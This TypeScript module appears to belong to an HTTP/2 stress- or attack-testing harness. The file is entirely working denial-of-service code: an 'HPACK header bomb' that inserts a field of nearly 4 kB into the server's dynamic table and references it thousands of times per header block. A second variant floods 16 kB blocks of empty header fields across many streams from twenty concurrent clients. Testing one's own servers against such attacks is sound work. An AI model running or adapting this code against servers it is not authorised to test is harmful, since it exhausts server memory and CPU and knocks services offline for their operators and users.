import type { Attack } from '../../attack.ts';
import * as h2 from '../../client/http2-frames.ts';
import { pause, swarm } from '../../client/swarm.ts';

/** Adds a field of almost 4 kB to the dynamic table, at index 62. */
const ADD = Buffer.concat([Buffer.from([0x40]), h2.hpackString('x'), h2.hpackString('y'.repeat(3_900))]);
const AGAIN = Buffer.from([0x80 | 62]);

export const http2HeaderBombs: Attack = {
  what: 'HTTP/2: header blocks that repeat an indexed field of 4 kB thousands of times; blocks of 16 kB of tiny fields',
  against: 'tls',
  clients: 20,
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const socket = await client.connect('h2');
      socket.on('data', (chunk: Buffer) => client.tally.add('bytes read', chunk.length));
      socket.write(Buffer.concat([h2.PREFACE, h2.settings(), h2.settingsAck]));
      const indexed = Buffer.concat([h2.requestBlock('GET', '/nowhere'), ADD, Buffer.alloc(8_000, AGAIN)]);
      const tiny = Buffer.concat([
        h2.requestBlock('GET', '/nowhere'),
        Buffer.alloc(15_000, h2.headerBlock([['', '']])),
      ]);
      for (let stream = 1; stream < 2_000 && !socket.closed && !signal.aborted; stream += 2) {
        const block = client.index % 2 === 0 ? indexed : tiny;
        socket.write(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block.subarray(0, 16_384)));
        client.tally.add('streams');
        if (stream % 20 === 1) await pause(client, 10);
      }
      socket.destroy();
    }),
};
